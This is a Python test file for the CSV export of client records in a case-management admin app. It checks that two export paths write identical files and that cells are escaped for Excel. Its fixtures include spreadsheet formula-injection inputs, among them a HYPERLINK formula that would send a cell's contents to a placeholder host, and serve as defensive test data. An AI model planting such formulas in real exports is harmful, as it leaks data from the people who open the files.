"""The client export reads plain columns straight from the driver: the same file, byte
for byte, as the export through records, for every kind of value."""

from __future__ import annotations

import datetime as dt

import pytest
from sqlalchemy import select

import admin_views.export
from admin_views.csv_excel import excel_cell
from models import Organisation, User
from tests.factories import TODAY, make_client


@pytest.fixture
def awkward_clients(session, world):
    organisation = session.get(Organisation, world.a.organisation_id)
    author = session.execute(
        select(User).where(User.email == world.a.case_manager_email)
    ).scalar_one()
    values = [
        {
            "first_name": '=HYPERLINK("http://x/?"&A1,"x")',
            "last_name": "Müller; mit\nZeilenumbruch",
            "residence_status": "toleration",
            "needs_interpreter": True,
            "phone": "+49 211 1234567",
            "household_size": 3,
            "district": 7,
            "date_of_birth": dt.date(1987, 6, 23),
            "country_of_origin": "SY",
            "notes": '-3 "zitiert"\t@x',
        },
        {
            "first_name": "@Ömer",
            "last_name": "Çelik",
            "gender": "diverse",
            "benefits_domain": "sgb2",
            "consent_withdrawn_on": TODAY,
            "languages": "ar, de",
            "email": "omer@example.org",
        },
    ]
    for value in values:
        make_client(session, organisation, author, **value)
    session.commit()


def test_the_column_export_writes_the_same_file_as_the_record_export(
    client, auth, world, awkward_clients, monkeypatch
):
    auth.login(world.a.case_manager_email)
    for url in ("/admin/clients/export/csv/", "/admin/clients/export/csv/?search=Müller"):
        by_columns = client.get(url).get_data()
        with monkeypatch.context() as patch:
            patch.setattr(admin_views.export, "plain_columns", lambda view: None)
            by_records = client.get(url).get_data()
        assert by_columns == by_records
        assert by_columns.count(b"\r\n") >= 2


def test_the_client_export_reads_columns_and_the_case_export_records(client, auth, world):
    with client.application.test_request_context():
        views = {view.endpoint: view for view in client.application.extensions["admin"][0]._views}
    assert admin_views.export.plain_columns(views["clients"]) is not None
    assert admin_views.export.plain_columns(views["cases"]) is None  # client name, topics


VALUES = {
    str: [None, "", "=1+1", "-3", "+x", "@x", "\tx", "\rx", "'x", 'Text; mit "Zitat"'],
    int: [None, 0, -3, 12],
    bool: [None, True, False],
    dt.date: [None, dt.date(2026, 1, 2), dt.date(1900, 12, 31), dt.date(999, 1, 1)],
}


@pytest.mark.parametrize("kind", list(VALUES), ids=lambda kind: kind.__name__)
def test_a_column_cell_is_what_excel_cell_writes_of_the_value(kind):
    values = VALUES[kind]
    cells = list(admin_views.export.COLUMN_OF_TYPE[kind](values))
    # ``csv`` writes None as an empty cell and a number as ``str(number)``.
    written = ["" if cell is None else str(cell) for cell in cells]
    assert written == [excel_cell(admin_views.export.plain_value(value)) for value in values]
    assert written == admin_views.export.any_column(values)


def test_every_exported_column_of_the_client_export_has_a_cell_of_its_kind(client):
    with client.application.test_request_context():
        views = {view.endpoint: view for view in client.application.extensions["admin"][0]._views}
    view = views["clients"]
    for name, _label in admin_views.export.export_columns(view):
        kind = getattr(view.model, name).type.python_type
        assert name in view.choice_fields or kind in admin_views.export.COLUMN_OF_TYPE, name


@pytest.mark.parametrize(
    "day", [dt.date(2026, 1, 5), dt.date(1987, 6, 23), dt.date(999, 12, 31), dt.date(1, 2, 3)]
)
def test_a_date_cut_from_sqlites_text_is_the_date_cell(day):
    # SQLite's driver gives a DATE column as the text SQLAlchemy stored: JJJJ-MM-TT.
    stored = f"{day.year:04d}-{day.month:02d}-{day.day:02d}"
    expected = admin_views.export.date_column([day, None])
    assert admin_views.export.iso_date_column([stored, None]) == expected
